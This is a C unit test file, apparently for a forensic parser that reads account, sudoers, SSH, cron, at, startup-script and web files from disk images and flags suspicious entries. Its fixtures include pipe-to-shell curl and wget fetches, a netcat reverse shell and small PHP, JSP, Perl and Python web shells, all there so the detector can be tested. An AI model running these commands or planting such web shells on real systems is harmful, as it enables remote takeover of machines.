/* SPDX-License-Identifier: Apache-2.0 */
/* Configuration of accounts, sudo, SSH, cron and scripts, as facts. */
#include "unit/parse_kit.h"

#define HAS(...)                                                               \
	(const char *const[])                                                  \
	{                                                                      \
		__VA_ARGS__, NULL                                              \
	}

/* Is the fact without those? */
static void hold_not(const struct parsed *p, size_t i, const char *piece)
{
	assert_true(i < p->n_facts);
	if (strstr(p->facts[i].detail, piece))
		fail_msg("%s in %s", piece, p->facts[i].detail);
}

static void test_passwd(void **state UNUSED)
{
	struct parsed p = parse_file("passwd", "/mnt/image/etc/passwd",
				     "root:x:0:0:root:/root:/bin/bash\n"
				     "toor::0:0::/root:/bin/sh\n"
				     "old:$1$abc$0123456789:7:7:x:/:/bin/sh\n"
				     "+@nis::::::\nbroken line\n");

	assert_int_equal(p.n_facts, 4);
	hold_fact(&p, 3, "account", "+@nis", NULL);
	hold_fact(&p, 0, "account", "root",
		  HAS("\"uid\":0", "\"gid\":0", "\"home\":\"/root\"",
		      "\"shell\":\"/bin/bash\"", "\"gecos\":\"root\""));
	hold_not(&p, 0, "\"field\"");
	hold_fact(&p, 1, "account", "toor", HAS("\"uid\":0", "\"field\":\"\""));
	hold_fact(&p, 2, "account", "old", HAS("\"field\":\"hash\""));
	hold_not(&p, 2, "0123456789");
	assert_int_equal(p.facts[1].offset, 32);
	assert_int_equal(p.facts[1].length, 25);
	assert_int_equal(p.n_problems, 1);
	parsed_release(&p);
}

static void test_shadow(void **state UNUSED)
{
	struct parsed p =
		parse_file("shadow", "/etc/shadow",
			   "root:$y$j9T$salt$hashhashhash:19700:0:99999:7:::\n"
			   "daemon:*:19600:0:99999:7:::\n"
			   "eve:!$6$salt$hashhash:19701:0:90:7::20000:\n"
			   "guest::19700:0:99999:7:::\n"
			   "svc:!:19700::::::\n"
			   "taken:$6$(left out):19700:0:99999:7:::\n"
			   "des:ab0123456789A:19700:0:99999:7:::\n");

	assert_int_equal(p.n_facts, 7);
	hold_fact(&p, 0, "password", "root",
		  HAS("\"state\":\"set\"", "\"method\":\"y\"",
		      "\"changed_at\":1702080000000000000",
		      "\"max_days\":99999"));
	hold_not(&p, 0, "hash");
	hold_not(&p, 0, "salt");
	hold_fact(&p, 1, "password", "daemon", HAS("\"state\":\"none\""));
	hold_fact(&p, 2, "password", "eve",
		  HAS("\"state\":\"locked\"", "\"method\":\"6\"",
		      "\"expires_at\":1728000000000000000"));
	hold_fact(&p, 3, "password", "guest", HAS("\"state\":\"empty\""));
	hold_fact(&p, 4, "password", "svc", HAS("\"state\":\"none\""));
	hold_fact(&p, 5, "password", "taken",
		  HAS("\"state\":\"set\"", "\"method\":\"6\""));
	hold_fact(&p, 6, "password", "des", HAS("\"method\":\"des\""));
	parsed_release(&p);
}

static void test_group(void **state UNUSED)
{
	struct parsed p = parse_file("group", "/etc/group",
				     "root:x:0:\nsudo:x:27:eve,bob\n");

	assert_int_equal(p.n_facts, 2);
	hold_fact(&p, 0, "account_group", "root",
		  HAS("\"gid\":0", "\"members\":[]"));
	hold_fact(&p, 1, "account_group", "sudo",
		  HAS("\"members\":[\"eve\",\"bob\"]"));
	parsed_release(&p);
}

static void test_sudoers(void **state UNUSED)
{
	struct parsed p = parse_file(
		"sudoers", "/etc/sudoers",
		"# a comment\nDefaults\tenv_reset, !authenticate\n"
		"Defaults:eve !requiretty\n"
		"User_Alias ADMINS = eve, bob : OPS = ann\n"
		"root\tALL=(ALL:ALL) ALL\n"
		"%sudo, mallory ALL=(ALL) NOPASSWD: ALL\n"
		"eve web = (root) NOPASSWD: SETENV: /bin/a -x, \\\n"
		"\t/bin/b, PASSWD: /bin/c : db = /bin/d # why\n"
		"#1000 ALL = ALL\n"
		"www ALL=(postgres) /usr/bin/psql\n"
		"@includedir /etc/sudoers.d\n#include /etc/s.local\n");

	assert_int_equal(p.n_facts, 14);
	hold_fact(&p, 0, "sudoers", "Defaults",
		  HAS("\"options\":[\"env_reset\",\"!authenticate\"]",
		      "\"nopasswd\":true"));
	hold_fact(&p, 1, "sudoers", "Defaults:eve",
		  HAS("\"options\":[\"!requiretty\"]", "\"nopasswd\":false"));
	hold_fact(&p, 2, "sudoers", "User_Alias ADMINS",
		  HAS("\"commands\":\"eve, bob\""));
	hold_fact(&p, 3, "sudoers", "User_Alias OPS", NULL);
	hold_fact(&p, 4, "sudoers", "root",
		  HAS("\"hosts\":\"ALL\"", "\"runas\":\"ALL:ALL\"",
		      "\"commands\":\"ALL\"", "\"all\":true",
		      "\"nopasswd\":false", "\"tags\":[]"));
	hold_fact(&p, 5, "sudoers", "%sudo",
		  HAS("\"all\":true", "\"nopasswd\":true",
		      "\"tags\":[\"NOPASSWD\"]"));
	hold_fact(&p, 6, "sudoers", "mallory", HAS("\"nopasswd\":true"));
	hold_fact(&p, 7, "sudoers", "eve",
		  HAS("\"hosts\":\"web\"", "\"runas\":\"root\"",
		      "\"tags\":[\"NOPASSWD\",\"SETENV\"]", "/bin/a -x,",
		      "/bin/b\"", "\"all\":false", "\"nopasswd\":true"));
	hold_fact(&p, 8, "sudoers", "eve",
		  HAS("\"commands\":\"/bin/c\"", "\"nopasswd\":false"));
	hold_fact(&p, 9, "sudoers", "eve",
		  HAS("\"hosts\":\"db\"", "\"commands\":\"/bin/d\""));
	hold_fact(&p, 10, "sudoers", "#1000", HAS("\"all\":true"));
	hold_fact(&p, 11, "sudoers", "www",
		  HAS("\"runas\":\"postgres\"", "\"all\":false"));
	hold_fact(&p, 12, "sudoers", "@includedir",
		  HAS("\"commands\":\"/etc/sudoers.d\""));
	hold_fact(&p, 13, "sudoers", "#include",
		  HAS("\"commands\":\"/etc/s.local\""));
	assert_int_equal(p.n_problems, 0);
	parsed_release(&p);
	p = parse_file("sudoers", "/etc/sudoers.d/90-cloud",
		       "ops ALL=(ALL) NOPASSWD:ALL\n");
	hold_fact(&p, 0, "sudoers", "ops",
		  HAS("\"all\":true", "\"nopasswd\":true"));
	parsed_release(&p);
}

static void test_doas(void **state UNUSED)
{
	struct parsed p = parse_file("doas", "/etc/doas.conf",
				     "permit nopass keepenv eve\n"
				     "permit persist :wheel as root cmd ls\n"
				     "deny bob\n");

	assert_int_equal(p.n_facts, 3);
	hold_fact(&p, 0, "sudoers", "eve",
		  HAS("\"all\":true", "\"nopasswd\":true",
		      "\"source\":\"doas\""));
	hold_fact(&p, 1, "sudoers", ":wheel",
		  HAS("\"all\":false", "\"commands\":\"ls\"",
		      "\"runas\":\"root\""));
	hold_fact(&p, 2, "sudoers", "bob", HAS("\"deny\"", "\"all\":false"));
	parsed_release(&p);
}

#define ED25519                                                                \
	"AAAAC3NzaC1lZDI1NTE5AAAAIHl8giJka3gOssT4AmpoIQ/yyN0QNhTad2BG94nwD+Ku"
#define RSA                                                                    \
	"AAAAB3NzaC1yc2EAAAADAQABAAABAQCH3n9uZmvwFVv9+1By3ndUGMAz5qX9ia7WZ5qy" \
	"h1hkrN/dOpfMuBi0zoy7+Hpi8yF+Ws0eyAyRDd5I3Pdreim+0JC6ggXbhf9o9gyZ4AZE" \
	"4MaEEb1SCpxjPuFDR0zbvoJ+KFEYIi1eKOQKgxqP2Rxiqbb86xC/bZE136awkKNWw6iZ" \
	"+XfiCxRUvtgbQO9V4W9gLi4zKWmKi0SphBRgPKLDeHcYKOVVIXCSP0nYGGwG0m3fr4L7" \
	"FGmOcvEv957EvwtZ3h6FOHXDrWuTxd7MZ02NX6eYk1mY1Dj6HKC38RH3SpAEmRYq8r8H" \
	"VRDg+EsJ2FsHeyetgvMoTyC/ARL6hXQB"

static void test_authorized_keys(void **state UNUSED)
{
	struct parsed p = parse_file(
		"authorized-keys", "/home/eve/.ssh/authorized_keys",
		"# mine\nssh-ed25519 " ED25519 " eve@laptop\n"
		"command=\"/bin/sh -c \\\"x, y\\\"\",from=\"192.0.2.0/24\","
		"no-pty ssh-rsa " RSA "\nssh-rsa AAAA junk\n");

	assert_int_equal(p.n_facts, 2);
	/* As ssh-keygen -l has them. */
	hold_fact(&p, 0, "authorized_key",
		  "SHA256:09sUQKHusuZ6htX6N0CuqFFKx8PIbtm8dEDCYYDBsRg",
		  HAS("\"account\":\"eve\"", "\"type\":\"ssh-ed25519\"",
		      "\"bits\":256", "\"comment\":\"eve@laptop\"",
		      "\"options\":\"\"", "\"source\":\"authorized_keys\""));
	hold_fact(&p, 1, "authorized_key",
		  "SHA256:oXYVrtefNU0oO0LRJkEAYQdZyLBCLt3F2Wbp1hUxRTc",
		  HAS("\"bits\":2048", "\"from\":\"192.0.2.0/24\"",
		      "\"command\":\"/bin/sh -c", "no-pty"));
	assert_int_equal(p.n_problems, 1);
	parsed_release(&p);
	p = parse_file("authorized-keys",
		       "/var/lib/jenkins/.ssh/authorized_keys2",
		       "ssh-ed25519 " ED25519 "\n");
	hold_fact(&p, 0, "authorized_key",
		  "SHA256:09sUQKHusuZ6htX6N0CuqFFKx8PIbtm8dEDCYYDBsRg",
		  HAS("\"account\":\"jenkins\""));
	parsed_release(&p);
	p = parse_file("authorized-keys", "/etc/dropbear/authorized_keys",
		       "ssh-ed25519 " ED25519 "\n");
	hold_fact(&p, 0, "authorized_key",
		  "SHA256:09sUQKHusuZ6htX6N0CuqFFKx8PIbtm8dEDCYYDBsRg",
		  HAS("\"account\":\"root\""));
	parsed_release(&p);
}

static void test_known_hosts(void **state UNUSED)
{
	struct parsed p =
		parse_file("known-hosts", "/root/.ssh/known_hosts",
			   "db,192.0.2.7 ssh-ed25519 " ED25519 "\n"
			   "|1|abc=|def= ssh-ed25519 " ED25519 "\n"
			   "@cert-authority *.example ssh-rsa " RSA "\n");

	assert_int_equal(p.n_facts, 3);
	hold_fact(&p, 0, "known_host", "db,192.0.2.7",
		  HAS("\"account\":\"root\"", "\"type\":\"ssh-ed25519\"",
		      "SHA256:09sUQKHusuZ6htX6N0CuqFFKx8PIbtm8dEDCYYDBsRg"));
	hold_fact(&p, 1, "known_host", "|1|abc=|def=", NULL);
	hold_fact(&p, 2, "known_host", "*.example", NULL);
	parsed_release(&p);
}

static void test_sshd_config(void **state UNUSED)
{
	struct parsed p =
		parse_file("sshd-config", "/etc/ssh/sshd_config.d/50-x.conf",
			   "Include /etc/ssh/x.d/*.conf\n#PermitRootLogin no\n"
			   "PermitRootLogin=yes\n"
			   "AuthorizedKeysFile  .ssh/authorized_keys /opt/%u\n"
			   "Match User eve Address 192.0.2.0/24\n"
			   "    ForceCommand /bin/x\nMatch all\nPort 22\n");

	assert_int_equal(p.n_facts, 5);
	hold_fact(&p, 0, "sshd_setting", "include",
		  HAS("\"value\":\"/etc/ssh/x.d/*.conf\"", "\"match\":\"\""));
	hold_fact(&p, 1, "sshd_setting", "permitrootlogin",
		  HAS("\"value\":\"yes\""));
	hold_fact(&p, 2, "sshd_setting", "authorizedkeysfile",
		  HAS("\"value\":\".ssh/authorized_keys /opt/%u\""));
	hold_fact(&p, 3, "sshd_setting", "forcecommand",
		  HAS("\"match\":\"User eve Address 192.0.2.0/24\""));
	hold_fact(&p, 4, "sshd_setting", "port", HAS("\"match\":\"\""));
	parsed_release(&p);
}

static void test_ssh_config(void **state UNUSED)
{
	struct parsed p = parse_file("ssh-config", "/home/eve/.ssh/config",
				     "Host db *.example\n"
				     "  ProxyCommand nc -X 5 %h %p\n"
				     "  ServerAliveInterval 5\n"
				     "Match exec \"/tmp/x\"\n"
				     "  LocalCommand /tmp/y\n");

	assert_int_equal(p.n_facts, 3);
	hold_fact(&p, 0, "ssh_setting", "proxycommand",
		  HAS("\"value\":\"nc -X 5 %h %p\"",
		      "\"host\":\"db *.example\"", "\"account\":\"eve\""));
	hold_fact(&p, 1, "ssh_setting", "match", HAS("exec"));
	hold_fact(&p, 2, "ssh_setting", "localcommand",
		  HAS("\"value\":\"/tmp/y\""));
	parsed_release(&p);
}

static void test_crontab(void **state UNUSED)
{
	struct parsed p = parse_file(
		"crontab", "/etc/cron.d/x",
		"SHELL=/bin/sh\n# m h\n17 *\t* * *\troot    cd / && run-parts "
		"x\n"
		"@reboot nobody /tmp/.x/m\n*/5 * * * mon-fri root curl "
		"http://192.0.2.7/x | sh\nnonsense\n");

	assert_int_equal(p.n_facts, 4);
	hold_fact(&p, 0, "environment", "SHELL",
		  HAS("\"value\":\"/bin/sh\"", "\"source\":\"/etc/cron.d/x\""));
	hold_fact(&p, 1, "cron", "cd / && run-parts x",
		  HAS("\"schedule\":\"17 *\\t* * *\"", "\"account\":\"root\"",
		      "\"source\":\"cron.d\"", "\"signs\":[]"));
	hold_fact(&p, 2, "cron", "/tmp/.x/m",
		  HAS("\"schedule\":\"@reboot\"", "\"account\":\"nobody\"",
		      "\"scratch-path\",\"hidden-path\""));
	hold_fact(&p, 3, "cron", "curl http://192.0.2.7/x | sh",
		  HAS("\"fetch\",\"pipe-to-shell\""));
	assert_int_equal(p.n_problems, 1);
	parsed_release(&p);
	p = parse_file("crontab", "/var/spool/cron/crontabs/www-data",
		       "0 3 * * 0 /opt/x --all\n");
	hold_fact(&p, 0, "cron", "/opt/x --all",
		  HAS("\"account\":\"www-data\"", "\"source\":\"spool\"",
		      "\"schedule\":\"0 3 * * 0\""));
	parsed_release(&p);
	p = parse_file("anacrontab", "/etc/anacrontab",
		       "START_HOURS_RANGE=3-22\n"
		       "1 5 cron.daily run-parts /etc/cron.daily\n"
		       "@monthly 45 m nc -e /bin/sh 192.0.2.7 1\n");
	assert_int_equal(p.n_facts, 3);
	hold_fact(&p, 1, "cron", "run-parts /etc/cron.daily",
		  HAS("\"source\":\"anacrontab\"", "\"schedule\":\"1\""));
	hold_fact(&p, 2, "cron", "nc -e /bin/sh 192.0.2.7 1",
		  HAS("\"reverse-shell\""));
	parsed_release(&p);
}

static void test_at(void **state UNUSED)
{
	struct parsed p = parse_file(
		"at", "/var/spool/cron/atjobs/a0000201c7a5d0",
		"#!/bin/sh\n# atrun uid=1000 gid=1000\n# mail eve 0\n"
		"umask 22\nPATH=/bin; export PATH\ncd /home/eve || {\n"
		"\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n"
		"sleep 5\nwget -q http://192.0.2.7/x\n");

	assert_int_equal(p.n_facts, 1);
	hold_fact(&p, 0, "at", "wget -q http://192.0.2.7/x",
		  HAS("\"account\":\"eve\"", "\"signs\":[\"fetch\"]",
		      "\"run_at\":1791679680000000000"));
	parsed_release(&p);
	/* A name that at never gave is no time, however large its number. */
	p = parse_file("at", "/var/spool/cron/atjobs/a00001ffffffff",
		       "#!/bin/sh\n# atrun uid=1000 gid=1000\nid\n");
	assert_int_equal(p.n_facts, 1);
	assert_null(strstr(p.facts[0].detail, "run_at"));
	parsed_release(&p);
}

static void test_scripts(void **state UNUSED)
{
	static const struct {
		const char *path, *role;
	} rows[] = {
		{"/etc/rc.local", "rc"},
		{"/etc/rc.d/rc.local", "rc"},
		{"/etc/init.d/ssh", "init"},
		{"/etc/rc.d/rc3.d/S10x", "init"},
		{"/etc/update-motd.d/10-x", "motd"},
		{"/etc/profile.d/x.sh", "profile"},
		{"/home/eve/.bashrc", "shell"},
		{"/home/eve/.bash_logout", "shell"},
		{"/root/.zshenv", "shell"},
		{"/home/eve/.ssh/rc", "ssh-rc"},
		{"/etc/ssh/sshrc", "ssh-rc"},
		{"/run/systemd/system-generators/x", "generator"},
		{"/etc/NetworkManager/dispatcher.d/10-x", "dispatcher"},
		{"/etc/dhcp/dhclient-exit-hooks.d/x", "dhcp"},
		{"/etc/network/if-up.d/x", "ifup"},
		{"/srv/app/.git/hooks/post-checkout", "git-hook"},
		{"/etc/cron.hourly/x", "cron"},
		{"/etc/initramfs-tools/hooks/x", "initramfs"},
		{"/etc/X11/Xsession.d/99x", "xdg"},
	};
	char want[64];

	for (size_t i = 0; i < ARRAY_SIZE(rows); i++) {
		struct parsed p =
			parse_file("script", rows[i].path,
				   "#!/bin/sh\ncurl http://192.0.2.7/x | sh\n");

		(void)snprintf(want, sizeof want, "\"role\":\"%s\"",
			       rows[i].role);
		hold_fact(&p, 0, "script", rows[i].path,
			  HAS(want, "\"lines\":2",
			      "\"signs\":[\"fetch\",\"pipe-to-shell\"]",
			      "\"sample\":\"curl http://192.0.2.7/x | sh\""));
		parsed_release(&p);
	}
	{
		struct parsed p = parse_file("script", "/etc/cron.daily/x",
					     "#!/bin/sh\nexit 0\n");

		assert_int_equal(p.n_facts, 2);
		hold_fact(&p, 0, "script", "/etc/cron.daily/x",
			  HAS("\"signs\":[]"));
		hold_fact(&p, 1, "cron", "/etc/cron.daily/x",
			  HAS("\"schedule\":\"@daily\"",
			      "\"source\":\"cron.daily\""));
		parsed_release(&p);
	}
}

static void test_web(void **state UNUSED)
{
	struct parsed p =
		parse_file("web-page", "/var/www/html/uploads/a.jpg.php",
			   "GIF89a\n<?php\neval($_POST['x']);\n");

	hold_fact(&p, 0, "script", "/var/www/html/uploads/a.jpg.php",
		  HAS("\"role\":\"web\"", "\"signs\":[\"request-eval\"]",
		      "\"sample\":\"eval($_POST['x']);\""));
	parsed_release(&p);
	p = parse_file("web-page", "/opt/x/webapps/ROOT/a.jsp",
		       "<%@ page %>\n<% Runtime.getRuntime().exec("
		       "request.getParameter(\"c\")); %>\n");
	hold_fact(&p, 0, "script", "/opt/x/webapps/ROOT/a.jsp",
		  HAS("\"request-exec\""));
	parsed_release(&p);
	p = parse_file("web-page", "/usr/lib/cgi-bin/t.pl",
		       "#!/usr/bin/perl\nsystem(param('c'));\n");
	hold_fact(&p, 0, "script", "/usr/lib/cgi-bin/t.pl",
		  HAS("\"request-exec\""));
	parsed_release(&p);
	p = parse_file("web-page", "/var/www/app/t.py",
		       "import os\nos.system(request.args.get('c'))\n");
	hold_fact(&p, 0, "script", "/var/www/app/t.py",
		  HAS("\"request-exec\""));
	parsed_release(&p);
	p = parse_file("web-page", "/var/www/html/.htaccess",
		       "Options -Indexes\nphp_value auto_prepend_file "
		       "/var/www/html/a.png\n");
	hold_fact(&p, 0, "script", "/var/www/html/.htaccess",
		  HAS("\"signs\":[\"auto-prepend\"]"));
	parsed_release(&p);
}

/* What has the path and not the form is for nobody. */
static void test_not(void **state UNUSED)
{
	static const struct {
		const char *path, *text;
	} rows[] = {
		{"/etc/passwd", "this is no list\nof accounts\n"},
		{"/etc/shadow", "a:b\nc:d\n"},
		{"/home/eve/.ssh/authorized_keys", "ssh-rsa nonsense\nx\n"},
		{"/srv/passwd", "root:x:0:0:root:/root:/bin/sh\n"},
		{"/etc/cron.d/README", "Put your tables\nin here.\n"},
		{"/var/www/a.php", "nothing here\n"},
		{"/etc/rc.local", "\001\002\003\004\005\006\007\010"},
	};

	for (size_t i = 0; i < ARRAY_SIZE(rows); i++) {
		struct parse_input in = {.content = bytes_str(rows[i].text),
					 .path = bytes_str(rows[i].path)};

		if (parser_guess(&in))
			fail_msg("%s is taken for %s", rows[i].path,
				 parser_guess(&in)->name);
	}
}

int main(void)
{
	static const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_passwd),
		cmocka_unit_test(test_shadow),
		cmocka_unit_test(test_group),
		cmocka_unit_test(test_sudoers),
		cmocka_unit_test(test_doas),
		cmocka_unit_test(test_authorized_keys),
		cmocka_unit_test(test_known_hosts),
		cmocka_unit_test(test_sshd_config),
		cmocka_unit_test(test_ssh_config),
		cmocka_unit_test(test_crontab),
		cmocka_unit_test(test_at),
		cmocka_unit_test(test_scripts),
		cmocka_unit_test(test_web),
		cmocka_unit_test(test_not),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
